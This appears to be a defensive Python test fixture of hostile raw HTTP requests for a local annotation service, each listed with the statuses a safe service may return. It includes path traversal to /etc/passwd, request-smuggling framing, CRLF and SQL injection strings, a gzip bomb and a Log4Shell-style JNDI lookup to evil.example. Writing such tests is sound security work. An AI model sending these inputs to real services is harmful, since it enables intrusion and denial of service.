"""Requests that no honest client sends, as bytes, with the statuses that a safe service may give.

The rule: a case names every status it accepts; 0 is a connection that was closed without a
response. `SECRET` is text that a client sends and that may appear neither in an error nor in a log.
"""

from __future__ import annotations

import gzip
import json
from dataclasses import dataclass
from urllib.parse import quote

from service_support import TOKEN

SECRET = "zanzibarquartz"
_BEARER = f"Authorization: Bearer {TOKEN}\r\n".encode()
_JSON = b"Content-Type: application/json\r\n"
HOST = b"Host: 127.0.0.1\r\n"
ANNOTATE = b"POST /v1/annotations HTTP/1.1\r\n"
VERSION = b"GET /v1/version HTTP/1.1\r\n"


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """Bytes to send; `half_close` ends the client's side after them."""

    name: str
    data: bytes
    statuses: frozenset[int]
    half_close: bool = False


def _case(name: str, data: bytes, *statuses: int, half_close: bool = False) -> Hostile:
    return Hostile(name=name, data=data, statuses=frozenset(statuses), half_close=half_close)


def get(path: bytes = b"/v1/version", *headers: bytes, host: bytes = HOST) -> bytes:
    """A GET with the token."""
    lines = b"".join(line + b"\r\n" for line in headers)
    return b"GET " + path + b" HTTP/1.1\r\n" + host + _BEARER + lines + b"\r\n"


def post(body: bytes, *headers: bytes, kind: bytes = _JSON, path: bytes = b"") -> bytes:
    """A POST of `body`, its length and the token."""
    lines = b"".join(line + b"\r\n" for line in headers)
    start = b"POST " + path + b" HTTP/1.1\r\n" if path else ANNOTATE
    length = b"Content-Length: %d\r\n" % len(body)
    return start + HOST + _BEARER + kind + length + lines + b"\r\n" + body


def chunked(body: bytes, *headers: bytes) -> bytes:
    """A POST whose body is already in chunks."""
    lines = b"".join(line + b"\r\n" for line in headers)
    encoding = b"Transfer-Encoding: chunked\r\n"
    return ANNOTATE + HOST + _BEARER + _JSON + encoding + lines + b"\r\n" + body


def given(token: bytes) -> bytes:
    """A GET with any Authorization header."""
    return VERSION + HOST + b"Authorization: " + token + b"\r\n\r\n"


def request(**keys: object) -> bytes:
    """An annotation request with more or other keys."""
    body = {"response": f"{SECRET} is a word.", "documents": [SECRET], **keys}
    return post(json.dumps(body).encode())


_T = TOKEN.encode()
_OK_BODY = json.dumps({"response": "A word.", "documents": ["A word."]}).encode()
_CHUNKS = b"%x\r\n%s\r\n0\r\n" % (len(_OK_BODY), _OK_BODY)

HOSTS = [
    _case("host-of-a-site", get(host=b"Host: evil.example\r\n"), 403),
    _case("host-missing", get(host=b""), 400),
    _case("host-empty", get(host=b"Host:\r\n"), 403),
    _case("host-twice", get(host=HOST + b"Host: evil.example\r\n"), 400),
    _case("host-same-twice", get(host=HOST + HOST), 400),
    _case("host-bad-port", get(host=b"Host: 127.0.0.1:80x\r\n"), 403),
    _case("host-any-address", get(host=b"Host: 0.0.0.0\r\n"), 403),
    _case("host-prefix", get(host=b"Host: localhost.evil.example\r\n"), 403),
    _case("host-user-info", get(host=b"Host: 127.0.0.1@evil.example\r\n"), 403),
    _case("host-decimal-address", get(host=b"Host: 2130706433\r\n"), 403),
    _case("host-on-a-public-path", get(b"/healthz", host=b"Host: evil.example\r\n"), 403),
    _case("host-in-the-address", get(b"http://evil.example/v1/version"), 400),
    _case("forwarded-host", get(b"/v1/version", b"X-Forwarded-Host: evil.example"), 200),
    _case("origin-of-a-site", get(b"/v1/version", b"Origin: http://evil.example"), 403),
    _case("origin-null", get(b"/v1/version", b"Origin: null"), 403),
    _case("origin-other-port", get(b"/v1/version", b"Origin: http://127.0.0.1:1"), 403),
    _case("origin-of-a-file", get(b"/v1/version", b"Origin: file://127.0.0.1"), 403),
    _case("cross-site", get(b"/v1/version", b"Sec-Fetch-Site: cross-site"), 403),
    _case("same-site", get(b"/v1/version", b"Sec-Fetch-Site: same-site"), 403),
    _case(
        "preflight",
        b"OPTIONS /v1/annotations HTTP/1.1\r\n" + HOST + b"Origin: http://evil.example\r\n"
        b"Access-Control-Request-Method: POST\r\n\r\n",
        403,
    ),
]

TOKENS = [
    _case("token-missing", VERSION + HOST + b"\r\n", 401),
    _case("token-empty", given(b""), 401),
    _case("token-bearer-only", given(b"Bearer "), 401),
    _case("token-wrong", given(b"Bearer " + _T[::-1]), 401),
    _case("token-prefix", given(b"Bearer " + _T[:-1]), 401),
    _case("token-longer", given(b"Bearer " + _T + b"x"), 401),
    _case("token-long", given(b"Bearer " + b"x" * 30_000), 401),
    _case("token-not-ascii", given(b"Bearer " + "ключ".encode()), 401),
    _case("token-high-bytes", given(b"Bearer \xff\xfe\xfd"), 401),
    _case("token-basic", given(b"Basic " + _T), 401),
    _case("token-twice", get(b"/v1/version", b"Authorization: Bearer x"), 400),
    _case("token-in-the-query", b"GET /v1/version?token=" + _T + b" HTTP/1.1\r\n" + HOST + b"\r\n", 401),
    _case("token-in-a-cookie", VERSION + HOST + b"Cookie: token=" + _T + b"\r\n\r\n", 401),
    _case("token-in-a-trailer", VERSION + HOST + b"Transfer-Encoding: chunked\r\n\r\n0\r\n" + _BEARER + b"\r\n", 401),
]  # fmt: skip

BODIES = [
    _case("form", post(b"response=x", kind=b"Content-Type: application/x-www-form-urlencoded\r\n"), 415),
    _case("plain-text", post(_OK_BODY, kind=b"Content-Type: text/plain\r\n"), 415),
    _case("multipart", post(b"--x--", kind=b"Content-Type: multipart/form-data; boundary=x\r\n"), 415),
    _case("no-type", post(_OK_BODY, kind=b""), 415),
    _case("type-twice", post(_OK_BODY, b"Content-Type: text/plain"), 400),
    _case("utf-16", post(_OK_BODY, kind=b"Content-Type: application/json; charset=utf-16\r\n"), 415),
    _case("gzip-bomb", post(gzip.compress(b" " * 5_000_000), b"Content-Encoding: gzip"), 415),
    _case("ten-megabytes", post(b'{"response": "' + b"x" * 10_000_000 + b'"}'), 413),
    _case("ten-megabytes-in-chunks", chunked(b"989680\r\n" + b"x" * 10_000_000 + b"\r\n989680\r\n" + b"x" * 10_000_000 + b"\r\n0\r\n\r\n"), 413),
    _case("length-of-a-terabyte", ANNOTATE + HOST + _BEARER + _JSON + b"Content-Length: 1000000000000\r\n\r\nx", 413, half_close=True),
    _case("bad-utf-8", post(b'{"response": "\xff\xfe"}'), 400),
    _case("utf-8-overlong", post(b'{"response": "\xc0\xaf"}'), 400),
    _case("byte-order-mark", post(b"\xef\xbb\xbf" + _OK_BODY), 400),
    _case("deep-lists", post(b'{"response": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"), 400),
    _case("deep-objects", post(b'{"response": ' * 50_000 + b"1" + b"}" * 50_000), 400),
    _case("deep-and-open", post(b"[" * 1_000_000), 400),
    _case("key-twice", post(b'{"response": "a", "response": "b"}'), 400),
    _case("nan", post(b'{"response": NaN}'), 400),
    _case("infinite", post(b'{"response": 1e999}'), 400),
    _case("many-digits", post(b'{"response": ' + b"9" * 1_000_000 + b"}"), 400),
    _case("half-a-pair", post(b'{"response": "\\ud800"}'), 400),
    _case("half-a-pair-as-key", post(b'{"\\udfff": 1}'), 400),
    _case("raw-control-character", post(b'{"response": "\x01"}'), 400),
    _case("nul-in-a-text", request(response="A\0B is a word."), 200, 422),
    _case("empty-body", post(b""), 400, 415, 422),
    _case("null", post(b"null"), 422),
    _case("list", post(b"[]"), 422),
    _case("number", post(b"1"), 422),
    _case("cut", post(b'{"response": "'), 400),
    _case("two-values", post(_OK_BODY + _OK_BODY), 400),
    _case("many-keys", request(**{f"key{number}": number for number in range(20_000)}), 422),
    _case("many-documents", request(documents=["x"] * 100_000), 422),
    _case("one-long-word", request(response="x" * 1_000_000), 200, 413, 422),
    _case("many-sentences", request(response="A b. " * 100_000), 200, 413, 422),
    _case("list-as-text", request(response=[SECRET]), 422),
    _case("path-as-judge", request(judge="../../etc/passwd"), 404, 422),
    _case("path-as-domain", request(domain="../../../../etc/passwd"), 404, 422),
    _case("path-as-document", request(documents=None, response={"text": "A.", "document_ids": ["../../etc/passwd"]}), 422),
    _case("template-as-text", request(response="{{ 7*7 }} ${jndi:ldap://evil.example/a} <script>"), 200),
    _case("control-in-a-name", request(judge="a\nb\x1b[31m"), 404, 422),
    _case("secret-key", request(api_key="sk-proj-0123456789abcdef0123456789"), 422),
]  # fmt: skip

LINES = [
    _case("dots", get(b"/docs/../../etc/passwd"), 404),
    _case("dots-encoded", get(b"/docs/%2e%2e/%2e%2e/etc/passwd"), 404),
    _case("slashes-encoded", get(b"/docs/..%2f..%2fetc%2fpasswd"), 404),
    _case("backslashes", get(b"/docs/..%5c..%5cetc%5cpasswd"), 404),
    _case("nul-in-the-path", get(b"/v1/version%00.txt"), 404),
    _case("line-end-in-the-path", get(b"/v1/version%0d%0aX-Evil:%20y"), 404),
    _case("bad-utf-8-in-the-path", get(b"/v1/%ff%fe"), 404),
    _case("raw-bytes-in-the-path", get(b"/v1/\xff\xfe"), 400),
    _case("double-slash", get(b"//evil.example/v1/version"), 400, 404),
    _case("public-path-and-more", b"GET /healthz/../v1/version HTTP/1.1\r\n" + HOST + b"\r\n", 401),
    _case("public-path-and-a-parameter", b"GET /v1/version;/healthz HTTP/1.1\r\n" + HOST + b"\r\n", 401),
    _case("long-path", get(b"/" + b"x" * 60_000), 431),
    _case("long-query", get(b"/v1/version?" + b"x" * 60_000), 431),
    _case("trace", b"TRACE /v1/version HTTP/1.1\r\n" + HOST + _BEARER + b"\r\n", 405),
    _case("connect", b"CONNECT evil.example:443 HTTP/1.1\r\n" + HOST + _BEARER + b"\r\n", 400, 405),
    _case("put", b"PUT /v1/annotations HTTP/1.1\r\n" + HOST + _BEARER + b"\r\n", 405),
    _case("unknown-method", b"BREW /v1/version HTTP/1.1\r\n" + HOST + b"\r\n", 400),
    _case("lower-case-method", b"get /v1/version HTTP/1.1\r\n" + HOST + b"\r\n", 400),
    _case("http-0.9", b"GET /v1/version\r\n\r\n", 400),
    _case("http-1.0", b"GET /healthz HTTP/1.0\r\n" + HOST + b"\r\n", 200),
    _case("http-1.0-without-host", b"GET /healthz HTTP/1.0\r\n\r\n", 400),
    _case("http-2.0", b"GET /healthz HTTP/2.0\r\n" + HOST + b"\r\n", 400),
    _case("http-2-preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
    _case("http-9.9", b"GET /healthz HTTP/9.9\r\n" + HOST + b"\r\n", 400),
    _case("web-socket", get(b"/v1/version", b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="), 200, 400),
    _case("h2c", get(b"/v1/version", b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"), 200),
    _case("tls", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 200, 400),
    _case("random-bytes", bytes(range(256)) * 8, 400),
    _case("another-protocol", b"SSH-2.0-OpenSSH_9.6\r\n", 400),
    _case("blank-lines", b"\r\n" * 100_000, 0, 400, 431),
    _case("asterisk", b"OPTIONS * HTTP/1.1\r\n" + HOST + _BEARER + b"\r\n", 400),
]  # fmt: skip

SMUGGLED = [
    _case("both-lengths", chunked(b"0\r\n\r\n", b"Content-Length: 6"), 400),
    _case("two-lengths", post(_OK_BODY, b"Content-Length: 1"), 400),
    _case("same-length-twice", post(_OK_BODY, b"Content-Length: %d" % len(_OK_BODY)), 400),
    _case("length-with-a-sign", ANNOTATE + HOST + _BEARER + _JSON + b"Content-Length: +2\r\n\r\n{}", 400),
    _case("length-as-a-list", ANNOTATE + HOST + _BEARER + _JSON + b"Content-Length: 2, 2\r\n\r\n{}", 400),
    _case("length-negative", ANNOTATE + HOST + _BEARER + _JSON + b"Content-Length: -1\r\n\r\n{}", 400),
    _case("length-too-long", ANNOTATE + HOST + _BEARER + _JSON + b"Content-Length: " + b"9" * 400 + b"\r\n\r\n{}", 400),
    _case("encoding-unknown", ANNOTATE + HOST + _BEARER + _JSON + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", 400),
    _case("encoding-not-last", ANNOTATE + HOST + _BEARER + _JSON + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", 400),
    _case("encoding-gzip", ANNOTATE + HOST + _BEARER + _JSON + b"Transfer-Encoding: gzip, chunked\r\n\r\n" + _CHUNKS + b"\r\n", 400),
    _case("encoding-twice", chunked(b"0\r\n\r\n", b"Transfer-Encoding: identity"), 400),
    _case("encoding-after-a-tab", ANNOTATE + HOST + _BEARER + _JSON + b"Content-Length: 2\r\nTransfer-Encoding:\x0bchunked\r\n\r\n{}", 400),
    _case("folded-header", VERSION + HOST + _BEARER + b"X-A: b\r\n c\r\n\r\n", 400),
    _case("blank-before-the-colon", VERSION + b"Host : 127.0.0.1\r\n" + _BEARER + b"\r\n", 400),
    _case("bare-line-feeds", get().replace(b"\r\n", b"\n"), 400),
    _case("bare-carriage-return", get(b"/v1/version", b"X-A: b\rHost: evil.example"), 400),
    _case("nul-in-a-header", get(b"/v1/version", b"X-A: b\0c"), 400),
    _case("header-without-a-colon", get(b"/v1/version", b"Evil"), 400),
    _case("header-without-a-name", get(b"/v1/version", b": evil"), 400),
    _case("chunk-size-negative", chunked(b"-1\r\nx\r\n0\r\n\r\n"), 400),
    _case("chunk-size-overflow", chunked(b"fffffffffffffffff\r\nx\r\n0\r\n\r\n"), 400),
    _case("chunk-size-in-words", chunked(b"two\r\nxx\r\n0\r\n\r\n"), 400),
    _case("chunk-extension-of-a-megabyte", chunked(b"2;a=" + b"x" * 1_000_000 + b"\r\n{}\r\n0\r\n\r\n"), 431),
    _case("trailer-of-a-megabyte", chunked(_CHUNKS + b"X-A: " + b"x" * 1_000_000 + b"\r\n\r\n"), 200, 431),
    _case("many-trailers", chunked(_CHUNKS + b"X-A: b\r\n" * 100_000 + b"\r\n"), 200, 431),
    _case("many-headers", get(b"/v1/version", *[b"X-%d: y" % number for number in range(200)]), 431),
    _case("header-of-100-kilobytes", get(b"/v1/version", b"X-A: " + b"x" * 100_000), 431),
    _case("header-name-of-100-kilobytes", get(b"/v1/version", b"x" * 100_000 + b": a"), 431),
    _case("header-section-without-end", VERSION + HOST + b"X-A: " + b"x" * 1_000_000, 431),
    _case("expects-something", post(_OK_BODY, b"Expect: 200-ok"), 200, 417),
]  # fmt: skip

_ROWS = b"Content-Type: application/x-ndjson\r\n"
_ROW = json.dumps({"id": "r1", "question_id": "q1", "text": SECRET}).encode()
_PASSWD = quote("../../../../etc/passwd", safe="").encode()

JOBS = [
    _case("job-id-with-dots", get(b"/v1/jobs/../../etc/passwd"), 404),
    _case("job-id-encoded", get(b"/v1/jobs/" + _PASSWD), 404),
    _case("job-id-encoded-results", get(b"/v1/jobs/" + _PASSWD + b"/annotations"), 404),
    _case("job-id-dots-alone", get(b"/v1/jobs/%2e%2e"), 404),
    _case("job-id-nul", get(b"/v1/jobs/a%00b"), 404),
    _case("job-id-long", get(b"/v1/jobs/" + b"a" * 20_000), 404),
    _case("job-id-statement", get(b"/v1/jobs/%27%20OR%201=1%20--"), 404),
    _case("job-line-of-50-megabytes", post(b'{"text": "' + b"x" * 50_000_000 + b'"}', kind=_ROWS, path=b"/v1/jobs"), 413),
    _case("job-half-a-row", post(_ROW + b"\n" + _ROW[:20], kind=_ROWS, path=b"/v1/jobs"), 422),
    _case("job-bad-utf-8", post(_ROW + b"\n\xff\xfe\n", kind=_ROWS, path=b"/v1/jobs"), 422),
    _case("job-deep-row", post(b"[" * 100_000 + b"\n", kind=_ROWS, path=b"/v1/jobs"), 422),
    _case("job-nothing", post(b"\n\n\n", kind=_ROWS, path=b"/v1/jobs"), 422),
    _case("job-file-outside", post(b'{"responses": "../../../../etc/passwd"}', path=b"/v1/jobs"), 422),
    _case("job-file-absolute", post(b'{"responses": "/etc/passwd"}', path=b"/v1/jobs"), 422),
    _case("job-file-store", post(b'{"responses": "store.sqlite"}', path=b"/v1/jobs"), 422),
    _case("job-rows-for-another-route", post(_ROW, kind=_ROWS), 415),
    _case("job-limit-in-words", get(b"/v1/jobs?limit=all&state=%00"), 422),
]  # fmt: skip

GROUPS = {
    "hosts": HOSTS,
    "tokens": TOKENS,
    "bodies": BODIES,
    "request lines": LINES,
    "framing": SMUGGLED,
    "jobs": JOBS,
}
CASES = [case for group in GROUPS.values() for case in group]
